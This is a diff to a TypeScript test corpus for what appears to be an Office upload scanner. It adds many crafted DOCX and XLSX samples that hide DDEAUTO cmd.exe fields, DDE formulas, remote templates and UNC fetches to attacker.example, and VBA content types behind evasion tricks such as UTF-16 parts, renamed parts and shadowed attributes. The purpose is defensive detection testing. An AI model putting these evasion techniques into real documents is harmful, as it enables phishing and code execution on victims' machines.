@@ -5,6 +5,19 @@ import type { FindingCode } from '../../../shared/validation/inspect.ts';
 import {
   activeX,
   activeXByContentType,
+  altChunk,
+  contentTypes,
+  MAIN_RELS,
+  mainDocumentAt,
+  mainRels,
+  office,
+  REL,
+  rel,
+  rels,
+  story,
+  utf16,
+  utf16SheetAcrossChunks,
+  WORD_MAIN,
   complexField,
   dataConnection,
   definedNameFormula,
@@ -22,6 +35,7 @@ import {
   escapedTargetMode,
   externalOle,
   externalTemplate,
+  externalTemplateTypedHyperlink,
   externalWorkbookLink,
   linkedPicture,
   macroByContentType,
@@ -62,7 +76,7 @@ import {
   pageObjects,
   type PdfObj,
 } from '../../fixtures/active-pdf.ts';
-import { MiB, windowsExecutable } from '../../fixtures/files.ts';
+import { buildZip, docxEntries, MiB, windowsExecutable } from '../../fixtures/files.ts';
 import type { CorpusItem } from './corpus-item.ts';
 
 /**
@@ -802,7 +816,424 @@ const officeItems: CorpusItem[] = [
     bytes: () => documentWith(complexField(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\x.png" \\d ')),
     expect: 'OOXML_EXTERNAL',
   },
+  ...hiddenOfficeItems(),
 ];
+
+/**
+ * Office content found in this round's hunt: documents imported by altChunk, the other field
+ * names that fetch (INCLUDE, IMPORT, DATABASE, RD), instructions in a tracked deletion, formulas
+ * outside cells (conditional formats, data validations, table columns), story parts and sheets
+ * under names the checks did not read, UTF-16 parts (a byte-order mark split between two upload
+ * chunks), Strict OOXML types, and [Content_Types].xml and relationship spellings.
+ */
+function hiddenOfficeItems(): CorpusItem[] {
+  const dde = complexField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ');
+  const unc = '"\\\\\\\\attacker.example\\\\share\\\\x.docx"';
+  const ddeSheet = (inner: string) =>
+    office('xlsx', {
+      'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>${inner}</worksheet>`,
+    });
+  const item = (id: string, category: string, bytes: () => Promise<Buffer>, expect: FindingCode): CorpusItem => ({
+    id,
+    category,
+    declared: id.startsWith('xlsx') ? 'xlsx' : 'docx',
+    bytes,
+    expect,
+  });
+  const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  /** An attribute in a namespace Office is told to ignore, its value holding `>`. */
+  const IGNORABLE =
+    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x" mc:Ignorable="x" x:a=">"';
+  const vba = '<Override PartName="/word/media/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+  return [
+    item('docx-altchunk-rtf-ole', 'OOXML embedded object', () => altChunk('rtf'), 'OOXML_EMBEDDED_OBJECT'),
+    item(
+      'docx-altchunk-mht-strict',
+      'OOXML embedded object',
+      () => altChunk('mht', `${strict}/aFChunk`),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item('docx-include-unc', 'OOXML external', () => documentWith(complexField(` INCLUDE ${unc} `)), 'OOXML_EXTERNAL'),
+    item(
+      'docx-import-unc',
+      'OOXML external',
+      () => documentWith(complexField(' IMPORT "\\\\\\\\attacker.example\\\\x.png" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-database-connection',
+      'OOXML external',
+      () =>
+        documentWith(
+          complexField(` DATABASE \\d ${unc} \\c "DSN=x;DBQ=\\\\\\\\attacker.example\\\\d.mdb" \\s "SELECT * FROM t" `),
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item('docx-rd-unc', 'OOXML external', () => documentWith(complexField(` RD ${unc} \\f `)), 'OOXML_EXTERNAL'),
+    item(
+      'docx-ddeauto-tracked-deletion',
+      'DDE',
+      () => documentWith(dde.replaceAll('instrText', 'delInstrText')),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-ddeauto-mc-choice',
+      'DDE',
+      () =>
+        documentWith(
+          `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w14">${dde}</mc:Choice><mc:Fallback><w:r><w:t>1</w:t></w:r></mc:Fallback></mc:AlternateContent>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-conditional-format',
+      'DDE',
+      () =>
+        ddeSheet(
+          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|' /c calc'!A0</formula></cfRule></conditionalFormatting>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-data-validation',
+      'DDE',
+      () =>
+        ddeSheet(
+          `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|' /c calc'!A0</formula1></dataValidation></dataValidations>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-table-column',
+      'DDE',
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/tables/table1.xml',
+            data: `<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="a"><calculatedColumnFormula>cmd|' /c calc'!A0</calculatedColumnFormula></tableColumn></tableColumns></table>`,
+          },
+        ]),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-form-control-range',
+      'DDE',
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/ctrlProps/ctrlProp1.xml',
+            data: `<?xml version="1.0" encoding="UTF-8"?><formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Drop" dropStyle="combo" dx="16" fmlaRange="cmd|' /c calc'!A0" sel="1"/>`,
+          },
+        ]),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-form-control-vml',
+      'DDE',
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/drawings/vmlDrawing1.vml',
+            data: `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t201"><x:ClientData ObjectType="Drop"><x:FmlaRange>cmd|' /c calc'!A0</x:FmlaRange><x:Sel>1</x:Sel></x:ClientData></v:shape></xml>`,
+          },
+        ]),
+      'OOXML_DDE',
+    ),
+    // Story parts and sheets under names the checks did not read (Word follows _rels/.rels).
+    item('docx-ddeauto-main-renamed', 'DDE', () => mainDocumentAt('word/document2.xml', dde), 'OOXML_DDE'),
+    item('docx-ddeauto-main-percent-folder', 'DDE', () => mainDocumentAt('%77ord/body.xml', dde), 'OOXML_DDE'),
+    item(
+      'docx-ddeauto-main-outside-word',
+      'OOXML unreadable',
+      () => mainDocumentAt('body.xml', dde),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-main-by-default-type',
+      'OOXML unreadable',
+      () => mainDocumentAt('word/body.dat', dde, 'default'),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-header-not-named-xml',
+      'DDE',
+      () =>
+        office('docx', mainRels('docx', rel('rId9', 'header', 'hdr.bin')), [
+          { name: 'word/hdr.bin', data: story('hdr', dde) },
+        ]),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-sheet-not-named-xml',
+      'DDE',
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/worksheets/sheet2.dat',
+            data: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
+          },
+        ]),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-ddeauto-header-odd-name',
+      'DDE',
+      () => office('docx', {}, [{ name: 'word/header_first.xml', data: story('hdr', dde) }]),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-sheet-outside-xl',
+      'OOXML unreadable',
+      () =>
+        office('xlsx', {
+          '[Content_Types].xml': contentTypes(
+            'xlsx',
+            '<Override PartName="/sheets/s.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
+          ),
+        }),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-main-dot-segment',
+      'OOXML unreadable',
+      () =>
+        office('docx', {
+          '[Content_Types].xml': contentTypes(
+            'docx',
+            `<Override PartName="/word/../body.xml" ContentType="${WORD_MAIN}"/>`,
+          ),
+          '_rels/.rels': rels(rel('rId1', 'officeDocument', 'body.xml')),
+          'body.xml': story('document', dde),
+        }),
+      'OOXML_UNREADABLE',
+    ),
+    // A remote template behind a relationship typed as a hyperlink, from settings of any name.
+    item(
+      'docx-remote-template-typed-hyperlink',
+      'OOXML external',
+      () => externalTemplateTypedHyperlink('word/settings.xml'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-remote-template-typed-hyperlink-settings-renamed',
+      'OOXML unreadable',
+      () => externalTemplateTypedHyperlink('word/prefs.xml'),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-mail-merge-unc-workbook',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/settings.xml': `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\share\\x.xlsx"/><w:query w:val="SELECT * FROM \`Sheet1$\`"/></w:mailMerge></w:settings>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-linked-picture-unc-as-internal-target',
+      'OOXML external',
+      () => office('docx', mainRels('docx', rel('rId9', 'image', '\\\\attacker.example\\share\\logo.png'))),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-linked-picture-file-uri-as-internal-target',
+      'OOXML external',
+      () => office('docx', mainRels('docx', rel('rId9', 'image', 'file://attacker.example/share/logo.png'))),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-ddeauto-after-no-break-spaces',
+      'DDE',
+      () => documentWith(complexField(`${'\u00a0'.repeat(40)}DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `)),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-subdocument-in-package',
+      'OOXML external',
+      () =>
+        office('docx', mainRels('docx', rel('rId9', 'subDocument', 'sub.docm')), [
+          { name: 'word/sub.docm', data: randomBytes(512) },
+        ]),
+      'OOXML_EXTERNAL',
+    ),
+    // UTF-16 parts: refused however the byte-order mark arrives.
+    item(
+      'docx-ddeauto-header-utf16',
+      'OOXML unreadable',
+      () => office('docx', { 'word/header1.xml': utf16(story('hdr', dde)) }),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-footnotes-utf16-no-mark',
+      'OOXML unreadable',
+      () => office('docx', { 'word/footnotes.xml': utf16(story('footnotes', dde), false) }),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-glossary-utf16',
+      'OOXML unreadable',
+      () => office('docx', { 'word/glossary/document.xml': utf16(story('glossaryDocument', dde)) }),
+      'OOXML_UNREADABLE',
+    ),
+    item('xlsx-dde-sheet-utf16-mark-across-chunks', 'OOXML unreadable', utf16SheetAcrossChunks, 'OOXML_UNREADABLE'),
+    item(
+      'docx-ddeauto-header-utf16-no-mark-leading-space',
+      'OOXML unreadable',
+      () => office('docx', { 'word/header1.xml': utf16(` ${story('hdr', dde).slice(XML_DECLARATION.length)}`, false) }),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-ddeauto-utf7',
+      'OOXML unreadable',
+      () =>
+        office('docx', {
+          'word/document.xml': story('document', dde.replace('DDEAUTO', '+AEQ-DEAUTO')).replace('UTF-8', 'UTF-7'),
+        }),
+      'OOXML_UNREADABLE',
+    ),
+    // `>` inside an attribute value (well-formed XML) ends no tag; a look-alike attribute hides nothing.
+    item(
+      'docx-ddeauto-instrtext-after-gt-attribute',
+      'DDE',
+      () => documentWith(dde.replaceAll('<w:instrText ', `<w:instrText ${IGNORABLE} `)),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-ddeauto-fldsimple-instr-behind-look-alike',
+      'DDE',
+      () =>
+        documentWith(`<w:fldSimple ${IGNORABLE} x:b=' w:instr="PAGE"' w:instr=" DDEAUTO c:\\x.exe &quot;>&quot; "/>`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-formula-after-gt-attribute',
+      'DDE',
+      () =>
+        office('xlsx', {
+          'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${IGNORABLE.replace(' x:a=">"', '')}><sheetData><row r="1"><c r="A1"><f x:a=">">cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-remote-template-target-holding-gt',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/_rels/settings.xml.rels': rels(
+            `<Relationship Id="rId1" Target="http://attacker.example/a>b.dotm" Type="${REL}/attachedTemplate" TargetMode="External"/>`,
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-remote-template-type-shadowed',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/_rels/settings.xml.rels': rels(
+            `<Relationship xmlns:x="urn:x" Id="rId1" Type="${REL}/attachedTemplate" x:Type="${REL}/hyperlink" Target="http://attacker.example/t.dotm" TargetMode="External"/>`,
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-rels-unclosed-tags',
+      'OOXML unreadable',
+      () =>
+        office('docx', {
+          [MAIN_RELS.docx]: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${Array.from({ length: 40_000 }, () => `<Relationship Id="${randomBytes(12).toString('hex')}" Type="`).join('')}`,
+        }),
+      'OOXML_UNREADABLE',
+    ),
+    // Strict OOXML types and other spellings of what is refused.
+    item(
+      'docx-remote-template-strict',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/_rels/settings.xml.rels': rels(
+            rel('rId1', `${strict}/attachedTemplate`, 'http://attacker.example/t.dotm', true),
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-ole-strict',
+      'OOXML embedded object',
+      () => office('docx', mainRels('docx', rel('rId9', `${strict}/oleObject`, '../embeddings/oleObject1.bin'))),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-remote-template-type-spaced-upper-case',
+      'OOXML external',
+      () =>
+        office(
+          'docx',
+          mainRels(
+            'docx',
+            `<Relationship Id="rId9" Type=" ${REL}/ATTACHEDTEMPLATE  " Target="\\\\attacker.example\\t.dotm" TargetMode=" external "/>`,
+          ),
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-remote-template-rels-upper-case',
+      'OOXML external',
+      () =>
+        buildZip(
+          docxEntries().map((e) =>
+            e.name === '_rels/.rels'
+              ? {
+                  name: '_RELS/.RELS',
+                  data: rels(
+                    rel('rId1', 'officeDocument', 'word/document.xml'),
+                    rel('rId2', 'attachedTemplate', 'http://attacker.example/t.dotm', true),
+                  ),
+                }
+              : e,
+          ),
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vba-content-type-second-types',
+      'macros',
+      () =>
+        office(
+          'docx',
+          { '[Content_Types].xml': contentTypes('docx').replace('</Types>', `</Types><Types>${vba}</Types>`) },
+          [{ name: 'word/media/data.bin', data: randomBytes(512) }],
+        ),
+      'MACROS',
+    ),
+    item(
+      'docx-vba-content-type-utf16-no-mark',
+      'macros',
+      () =>
+        office('docx', { '[Content_Types].xml': utf16(contentTypes('docx', vba), false) }, [
+          { name: 'word/media/data.bin', data: randomBytes(512) },
+        ]),
+      'MACROS',
+    ),
+    item(
+      'docx-vba-content-type-upper-case-default',
+      'macros',
+      () =>
+        office(
+          'docx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'docx',
+              '<Default Extension="BIN" ContentType="APPLICATION/VND.MS-OFFICE.VBAPROJECT"/>',
+            ),
+          },
+          [{ name: 'word/media/DATA.BIN', data: randomBytes(512) }],
+        ),
+      'MACROS',
+    ),
+  ];
+}
 
 /** Whitespace that does not compress like a bomb (spaces, tabs and line ends at random). */
 function whitespace(length: number): string {
@@ -1141,5 +1572,18 @@ export const ACTIVE_GENUINE: readonly {
         '<ofd:MultiMedias><ofd:MultiMedia ID="9" Type="Image"><ofd:MediaFile>../Res/image_9.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>',
         '/Doc_0/Res',
       ),
+  },
+  {
+    id: 'docx-header-odd-name-page-field',
+    declared: 'docx',
+    bytes: () => office('docx', {}, [{ name: 'word/header_first.xml', data: story('hdr', complexField(' PAGE ')) }]),
+  },
+  {
+    id: 'xlsx-conditional-format-and-validation-pipe-in-string',
+    declared: 'xlsx',
+    bytes: () =>
+      office('xlsx', {
+        'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>ISNUMBER(SEARCH(&quot;|&quot;,A1))</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>&quot;是|否&quot;</formula1></dataValidation></dataValidations></worksheet>`,
+      }),
   },
 ];
